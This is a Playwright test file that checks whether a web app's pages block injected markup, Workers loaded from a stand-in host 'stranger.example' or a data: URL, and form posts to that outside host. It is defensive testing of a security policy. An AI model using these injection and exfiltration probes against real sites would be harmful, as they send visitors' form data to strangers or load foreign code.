"""Text that gets into a page becomes markup, a script or a form that sends its fields to a stranger."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page

from tests.support.tasks.tiny_task import write_task
from tests.support.web.server_process import Server, running
from tests.support.web.visitors import Visitor, operator

pytestmark = pytest.mark.browser

# Each tries one way, and says what came of it: "done", or why not.
MARKUP = """() => {
  for (const place of [(html) => { document.body.innerHTML += html; },
                       (html) => document.body.insertAdjacentHTML("beforeend", html),
                       (html) => document.write(html)]) {
    try { place("<img src=x>"); return "done"; }
    catch (error) { if (error.name !== "TypeError") return error.name; }
  }
  return "refused";
}"""
WORKERS = """() => {
  const found = [];
  const blob = "/blobs/" + "0".repeat(64);
  for (const address of ["https://stranger.example/x.js", blob, "data:text/javascript,1"]) {
    try { new Worker(address); found.push(address); } catch (error) { }
  }
  return found;
}"""
FORM = """async () => {
  const violated = new Promise((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    setTimeout(() => resolve("nothing"), 2000);
  });
  const form = document.createElement("form");
  Object.assign(form, { action: "https://stranger.example/", method: "post" });
  document.body.append(form);
  form.submit();
  return violated;
}"""
OWNERS = ("/drafts", "/account", "/tasks/tiny/manage", "/tasks/tiny/access")
EVERYBODY = (
    "/",
    "/tasks/tiny",
    "/tasks/tiny/train",
    "/tasks/tiny/rounds",
    "/tasks/tiny/versions/0",
    "/sign-in",
)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("pages")
    write_task(folder / "tasks" / "tiny")
    with running(folder / "tasks", folder / "data") as server:
        yield server


@pytest.fixture(scope="module")
def ann(server: Server) -> Visitor:
    return operator(server)


async def opened(browser: Browser, server: Server, ann: Visitor, path: str) -> Page:
    context = await browser.new_context()
    if path in OWNERS:
        for name, value in ann.cookies.items():
            await context.add_cookies([{"name": name, "value": value, "url": server.url}])
    page = await context.new_page()
    await page.add_init_script(
        "window.violations = [];"
        'addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));'
    )
    answer = await page.goto(server.url + path)
    assert answer is not None
    assert answer.status == 200
    return page


@pytest.mark.parametrize("path", EVERYBODY + OWNERS)
async def test_a_page_makes_nothing_of_text(
    browser: Browser, server: Server, ann: Visitor, path: str
) -> None:
    page = await opened(browser, server, ann, path)
    await page.wait_for_load_state("networkidle")
    assert await page.evaluate("violations") == []
    assert await page.evaluate(MARKUP) == "refused"
    assert await page.evaluate(WORKERS) == []
    assert await page.evaluate(FORM) == "form-action"


async def test_a_page_starts_its_own_workers_and_shows_its_own_html(
    browser: Browser, server: Server, ann: Visitor, tmp_path: Path
) -> None:
    page = await opened(browser, server, ann, "/tasks/tiny/train")
    async with page.expect_worker():
        await page.locator("[data-action=start]").click()
    name = ann.ask("POST", "/api/drafts", {"name": "seen", "title": "Seen"})["id"]
    ann.ask("PATCH", f"/api/drafts/{name}", {"readme": "**Bold**"})
    assert await page.evaluate("violations") == []
    context = await browser.new_context()
    for cookie, value in ann.cookies.items():
        await context.add_cookies([{"name": cookie, "value": value, "url": server.url}])
    page = await context.new_page()
    await page.goto(f"{server.url}/drafts/{name}/about")
    await page.locator("strong", has_text="Bold").wait_for()
